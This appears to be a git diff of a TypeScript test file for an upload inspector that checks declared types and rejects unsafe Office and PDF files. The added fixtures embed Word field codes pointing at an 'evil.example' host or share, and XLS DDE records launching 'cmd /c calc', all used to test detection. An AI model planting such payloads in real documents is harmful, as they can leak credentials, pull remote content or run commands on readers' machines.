@@ -1,4 +1,4 @@
-// The table of files: what each is by name and content, and whether a client and the team may upload it.
+// Table of files: the type of each by name and content, and whether a client and the team may upload it.
 import { randomBytes } from 'node:crypto'
 import { Readable } from 'node:stream'
 import { describe, expect, it } from 'vitest'
@@ -12,7 +12,7 @@ import { inspect } from './inspect.ts'
 const ann: Actor = { id: 'ann', role: 'client', firstName: 'Ann', lastName: 'Keller' }
 const sam: Actor = { id: 'sam', role: 'staff', firstName: 'Sam', lastName: 'Carter' }
 
-/** The bytes behind the same window through which stored files are looked at. */
+/** The bytes through the same interface as stored files. */
 const bytesIn = (buffer: Buffer) =>
   bytesOf(
     {
@@ -57,7 +57,7 @@ const template = (target: string) => ({
   name: 'word/_rels/settings.xml.rels',
   content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
 })
-/** Relationships as they stand in any part's `.rels`. */
+/** Relationships as in any part's `.rels`. */
 const rels = (
   type: string,
   target: string,
@@ -79,7 +79,7 @@ const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
 const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
 const field = (...instruction: string[]) =>
   `<w:p>${mark('begin')}${instruction.join('')}${mark('separate')}${mark('end')}</w:p>`
-/** Files with one more part, whose content type is said. */
+/** An archive with an additional part of the given content type. */
 const withType = (parts: make.ZipEntry[], name: string, type: string, content: Buffer | string = '<a/>') =>
   make.zip([
     ...parts.map((part) =>
@@ -105,7 +105,7 @@ const externalLink = (content: string) =>
   )
 const inUtf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
 
-/** The workbook's list of sheets as Excel 97 writes it. */
+/** The workbook's list of sheets as written by Excel 97. */
 const record = (type: number, content: Buffer) => {
   const head = Buffer.alloc(4)
   head.writeUInt16LE(type, 0)
@@ -113,6 +113,13 @@ const record = (type: number, content: Buffer) => {
   return Buffer.concat([head, content])
 }
 const sheetRecord = (kind: number) => record(0x85, Buffer.from([0, 4, 0, 0, 0, kind, 1, 0, 0x41]))
+/** Another file or program that sheets refer to. */
+const linkRecord = (path: string, encoding: 'latin1' | 'utf16le' = 'latin1') =>
+  record(
+    0x1ae,
+    Buffer.concat([Buffer.from([0, 0, path.length, 0, encoding === 'latin1' ? 0 : 1]), Buffer.from(path, encoding)]),
+  )
+const ownLinkRecord = record(0x1ae, Buffer.from([3, 0, 1, 4]))
 const workbook = (...more: Buffer[]) =>
   make.compoundFile([
     {
@@ -131,8 +138,19 @@ const wordText = (text: Buffer) =>
     { name: '1Table' },
   ])
 
+/** The pool has the entry after it, as with an object that Word stored. */
+const withObjectPool = () => {
+  const file = make.compoundFile([
+    { name: 'WordDocument' },
+    { name: 'ObjectPool', storage: true },
+    { name: '_1234567890', storage: true },
+  ])
+  file.writeUInt32LE(3, file.indexOf(Buffer.from('ObjectPool', 'utf16le')) + 76)
+  return file
+}
+
 const many = Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: 'x' }))
-/** Two entries of the table of contents point at the same bytes, as overlapping bombs do. */
+/** Two directory entries point at the same bytes, as in overlapping zip bombs. */
 const overlapping = () => {
   const archive = make.zip([
     ...word,
@@ -152,10 +170,10 @@ const pdfAndZip = () =>
 
 const otherThan = (label: string, really: string | null) =>
   `The file is named like a ${label} file, but its content is something else${really === null ? '' : ` (${really})`}.`
-const forClients = 'Please choose a PDF, DOC, DOCX, XLS or XLSX file.'
-const forTeam = 'Please choose a PDF, DOC, DOCX, XLS, XLSX, PNG or JPEG file.'
+const forClients = 'Choose a PDF, DOC, DOCX, XLS, or XLSX file.'
+const forTeam = 'Choose a PDF, DOC, DOCX, XLS, XLSX, PNG, or JPEG file.'
 
-/** name, bytes, what a client is told, what the team is told when it differs */
+/** name, bytes, the client's error, the team's error if it differs */
 const table: [string, string, Buffer, string, string?][] = [
   ['a PDF', 'a.pdf', make.pdf(), 'pdf'],
   ['a PDF in capitals', 'A.PDF', make.pdf(), 'pdf'],
@@ -428,6 +446,51 @@ const table: [string, string, Buffer, string, string?][] = [
     ),
     contentFaults.dde,
   ],
+  ...[
+    ' INCLUDEPICTURE "https://evil.example/a.png" \\* MERGEFORMATINET ',
+    ' includepicture \\\\\\\\evil.example\\\\share\\\\a.png \\d ',
+    ' INCLUDETEXT "\\\\evil.example\\a.docx" ',
+    ' LINK Excel.Sheet.8 "file://evil.example/a.xls" "" \\a ',
+    ' IMPORT http://evil.example/a.png ',
+    ' INCLUDEPICTURE mhtml:https://evil.example/a ',
+    ' RD //evil.example/a.docx ',
+    ' DATABASE \\d "\\\\evil.example\\a.mdb" ',
+  ].map((instruction): [string, string, Buffer, string] => [
+    `a DOCX with the field${instruction}`,
+    'a.docx',
+    wordOf(field(run(instruction))),
+    contentFaults.external,
+  ]),
+  [
+    'a DOCX with an included picture whose address is computed',
+    'a.docx',
+    wordOf(field(run(' INCLUDEPICTURE '), mark('begin'), run('QUOTE 104 116'), mark('separate'), mark('end'))),
+    contentFaults.external,
+  ],
+  [
+    'a DOCX with a simple field that includes text',
+    'a.docx',
+    wordOf('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/a&quot;"/></w:p>'),
+    contentFaults.external,
+  ],
+  [
+    'a DOCX with a picture from its writer’s disk',
+    'a.docx',
+    wordOf(field(run(' INCLUDEPICTURE "C:\\\\Users\\\\Ann\\\\logo.png" \\* MERGEFORMAT '))),
+    'docx',
+  ],
+  [
+    'a DOCX with a field that links to a share',
+    'a.docx',
+    wordOf(field(run(' HYPERLINK "\\\\\\\\evil.example\\\\share" '))),
+    contentFaults.fileLink,
+  ],
+  [
+    'a DOCX with a field that links to a website',
+    'a.docx',
+    wordOf(field(run(' HYPERLINK "https://example.com/" \\o "Link" '))),
+    'docx',
+  ],
   ['a DOCX with the words DDE and DDEAUTO in its text', 'a.docx', make.docx('DDEAUTO and DDE'), 'docx'],
   [
     'a DOCX with entities of its own',
@@ -473,6 +536,57 @@ const table: [string, string, Buffer, string, string?][] = [
     wordText(Buffer.from('\u0013 DDEAUTO cmd "/k calc" \u0015', 'utf16le')),
     contentFaults.dde,
   ],
+  ...(['latin1', 'utf16le'] as const).map((encoding): [string, string, Buffer, string] => [
+    `a DOC with a picture on a share, in ${encoding}`,
+    'a.doc',
+    wordText(Buffer.from('\u0013 INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d \u0014\u0001\u0015', encoding)),
+    contentFaults.external,
+  ]),
+  [
+    'a DOC with a picture from its writer’s disk',
+    'a.doc',
+    wordText(Buffer.from('\u0013 INCLUDEPICTURE "C:\\\\a.png" \\d \u0014\u0001\u0015', 'latin1')),
+    'doc',
+  ],
+  [
+    'a DOC with a link to a website',
+    'a.doc',
+    wordText(Buffer.from('\u0013 HYPERLINK "https://example.com/" \u0014Link\u0015', 'latin1')),
+    'doc',
+  ],
+  [
+    'a DOC with a package',
+    'a.doc',
+    make.compoundFile([{ name: 'WordDocument' }, { name: '\u0001Ole10Native' }]),
+    contentFaults.objects,
+  ],
+  [
+    'a DOC with an empty pool of objects',
+    'a.doc',
+    make.compoundFile([{ name: 'WordDocument' }, { name: 'ObjectPool', storage: true }]),
+    'doc',
+  ],
+  ['a DOC with a pool of objects', 'a.doc', withObjectPool(), contentFaults.objects],
+  [
+    'an XLS with an equation object',
+    'a.xls',
+    make.compoundFile([{ name: 'Workbook' }, { name: 'Equation Native' }]),
+    contentFaults.objects,
+  ],
+  ['an XLS with a DDE link', 'a.xls', workbook(sheetRecord(0), linkRecord('cmd\u0003/c calc')), contentFaults.dde],
+  [
+    'an XLS with a DDE link in two bytes a character',
+    'a.xls',
+    workbook(sheetRecord(0), linkRecord('cmd\u0003/c calc', 'utf16le')),
+    contentFaults.dde,
+  ],
+  [
+    'an XLS with values from a workbook on a share',
+    'a.xls',
+    workbook(sheetRecord(0), linkRecord('\u0001\u0001@evil.example\u0003share\u0003a.xls')),
+    contentFaults.workbookLink,
+  ],
+  ['an XLS with references to its own sheets', 'a.xls', workbook(sheetRecord(0), ownLinkRecord), 'xls'],
   [
     'a DOCX behind a password',
     'a.docx',
@@ -503,13 +617,13 @@ const table: [string, string, Buffer, string, string?][] = [
   ['an entry twice', 'a.docx', make.zip([...word, word[2] as make.ZipEntry]), contentFaults.damaged],
 ]
 
-describe('D1, D3: uploading', () => {
+describe('D1, D3: inspecting an upload', () => {
   it.each(table)('%s (%s)', async (_title, name, bytes, toldClient, toldTeam = toldClient) => {
     expect(await verdict(ann, name, bytes)).toBe(toldClient)
     expect(await verdict(sam, name, bytes)).toBe(toldTeam)
   })
 
-  it('a bomb costs less than a tenth of a second', async () => {
+  it('rejects a zip bomb in less than a tenth of a second', async () => {
     const bomb = make.zip([...word, { name: 'word/media/a.bin', content: zeros }])
     const before = process.cpuUsage()
     await inspect(bytesIn(bomb))
@@ -517,7 +631,7 @@ describe('D1, D3: uploading', () => {
     expect(user + system).toBeLessThan(100_000)
   })
 
-  it('bytes at random, and good files with bytes flipped, never crash the look', async () => {
+  it('never crashes on random bytes or on valid files with flipped bytes', async () => {
     const starts = [make.pdf(), make.docx(), make.doc(), make.xls(), make.png(), make.jpeg()]
     for (let round = 0; round < 1200; round++) {
       const file = Buffer.from(starts[round % starts.length] as Buffer)
@@ -528,7 +642,7 @@ describe('D1, D3: uploading', () => {
   })
 })
 
-describe('D3: what was said about a file', () => {
+describe('D3: a declared file type', () => {
   const said = (more: Partial<DocumentInput>) => () =>
     kindOf(
       ann,
@@ -542,7 +656,7 @@ describe('D3: what was said about a file', () => {
     [{ fileName: 'a.docx' }, 'fileName'],
     [{ fileName: 'a.exe' }, 'fileName'],
     [{ originalName: 'a.docx', fileName: 'a.docx' }, 'documentURL'],
-  ])('%j does not agree', (more, path) => {
+  ])('%j does not match', (more, path) => {
     expect(said(more)).toThrow(expect.objectContaining({ issues: [expect.objectContaining({ path })] }))
   })
 
@@ -551,7 +665,7 @@ describe('D3: what was said about a file', () => {
     { mimeType: 'application/octet-stream' },
     { mimeType: '' },
     { fileName: 'a1b2c3' },
-  ])('%j does', (more) => {
+  ])('%j matches', (more) => {
     expect(said(more)()).toBe('pdf')
   })
 })
